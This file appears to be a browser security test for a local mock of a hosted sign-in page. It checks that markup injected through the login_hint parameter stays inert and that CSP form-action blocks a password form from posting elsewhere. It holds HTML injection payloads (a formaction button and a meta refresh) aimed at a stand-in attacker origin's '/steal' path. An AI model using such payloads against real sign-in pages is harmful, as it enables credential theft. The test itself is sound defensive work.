/**
 * Credential theft on the hosted sign-in page, tried in Chromium. A crafted `/login` link puts
 * markup in `login_hint` (a `<button formaction>` that would take the form, a `<meta refresh>`
 * that would leave the site); a person types a username and password and presses Enter. A second
 * loopback origin plays the attacker and records every request it gets. Also shown: the page's
 * CSP `form-action` stops a form that posts elsewhere even if one got onto the page, while the
 * sign-in itself (a POST answered by a 302 to the app's callback on another origin) still lands.
 */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../src/index.js';
import { browserAvailable, launchBrowser, serveSite, type Site } from './browser-harness.js';
import { start } from './helpers.js';

const POOL = 'us-east-1_HtmlInject1';
const CLIENT = 'htmlinjectionclient0000001';

let browser: Browser;
let local: RunningServer;
let app: Site;
let attacker: Site;
/** `METHOD /path body` of every request the attacker's origin received. */
const stolen: string[] = [];
let onStolen: () => void = () => {};

beforeAll(async () => {
  if (!browserAvailable()) return;
  app = await serveSite(url => (url.pathname === '/callback' ? { body: '<!doctype html><title>app</title><h1>app</h1>' } : undefined));
  attacker = await serveSite((url, req) => {
    let body = '';
    req.on('data', chunk => (body += chunk));
    req.on('end', () => {
      stolen.push(`${req.method} ${url.pathname} ${body}`);
      onStolen();
    });
    return { body: '<!doctype html><title>elsewhere</title>' };
  });
  local = await start({
    config: {
      userPools: [
        {
          Id: POOL,
          PoolName: 'html-injection',
          Domain: 'html-injection',
          clients: [
            {
              ClientId: CLIENT,
              ClientName: 'web',
              AllowedOAuthFlowsUserPoolClient: true,
              AllowedOAuthFlows: ['code'],
              AllowedOAuthScopes: ['openid'],
              CallbackURLs: [`${app.url}/callback`],
              SupportedIdentityProviders: ['COGNITO'],
            },
          ],
          users: [{ Username: 'olive', Password: 'Passw0rd!' }],
        },
      ],
    },
  });
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await local?.close();
  await app?.close();
  await attacker?.close();
});

const it_ = browserAvailable() ? it : it.skip;

/** The attacker's origin as a different host name for the same loopback socket. */
const elsewhere = () => `http://127.0.0.1:${attacker.port}`;

function loginUrl(extra: Record<string, string> = {}): string {
  return `http://localhost:${local.port}/login?${new URLSearchParams({ client_id: CLIENT, redirect_uri: `${app.url}/callback`, response_type: 'code', scope: 'openid', ...extra })}`;
}

describe('the hosted sign-in page in Chromium', () => {
  const payloads: Array<[string, () => string]> = [
    [
      'a formaction button and a meta refresh',
      () => `"><button formaction="${elsewhere()}/steal">x</button><meta http-equiv="refresh" content="0;url=${elsewhere()}/">`,
    ],
    ['a formaction button alone', () => `"><button formaction="${elsewhere()}/steal">x</button><input type="hidden" value="`],
  ];
  it_.each(payloads)('markup in login_hint (%s) stays text: Enter signs in at the app, the other origin gets nothing', async (_name, make) => {
    const payload = make();
    stolen.length = 0;
    const context = await browser.newContext();
    const page = await context.newPage();
    const reachedElsewhere = new Promise<'elsewhere'>(resolve => (onStolen = () => resolve('elsewhere')));
    let prefilled: string | undefined;
    const signIn = (async () => {
      await page.goto(loginUrl({ login_hint: payload }));
      prefilled = await page.inputValue('#username');
      await page.fill('#username', 'olive');
      await page.fill('#password', 'Passw0rd!');
      await page.press('#password', 'Enter');
      await page.waitForURL(u => u.origin === app.url && u.pathname === '/callback');
      return 'callback' as const;
    })();
    signIn.catch(() => {}); // when the other origin wins the race, this one is left to fail on its own
    const outcome = await Promise.race([reachedElsewhere, signIn]);
    expect(stolen).toEqual([]);
    expect(outcome).toBe('callback');
    expect(prefilled).toBe(payload);
    expect(new URL(page.url()).searchParams.get('code')).toMatch(/.+/);
    expect(stolen).toEqual([]);
    await context.close();
  });

  it_("the page's CSP form-action stops a form that posts to another origin", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(loginUrl());
    const violation = await page.evaluate(
      target =>
        new Promise<string>(resolve => {
          addEventListener('securitypolicyviolation', event => resolve(`${event.effectiveDirective} ${event.blockedURI}`), true);
          const form = document.createElement('form');
          form.method = 'post';
          form.action = target;
          const input = document.createElement('input');
          input.name = 'password';
          input.value = 'Passw0rd!';
          form.append(input);
          document.body.append(form);
          form.submit();
        }),
      `${elsewhere()}/steal`,
    );
    expect(violation).toMatch(new RegExp(`^form-action ${elsewhere().replace(/\./g, '\\.')}`));
    // Still on the sign-in page; a real sign-in from a fresh one still reaches the app's callback
    // (its POST is answered by a 302 to the app, which form-action allows).
    expect(new URL(page.url()).pathname).toBe('/login');
    await page.goto(loginUrl());
    await page.fill('#username', 'olive');
    await page.fill('#password', 'Passw0rd!');
    await page.click('button[name="signInSubmitButton"]');
    await page.waitForURL(u => u.origin === app.url && u.pathname === '/callback');
    expect(stolen).toEqual([]);
    await context.close();
  });
});
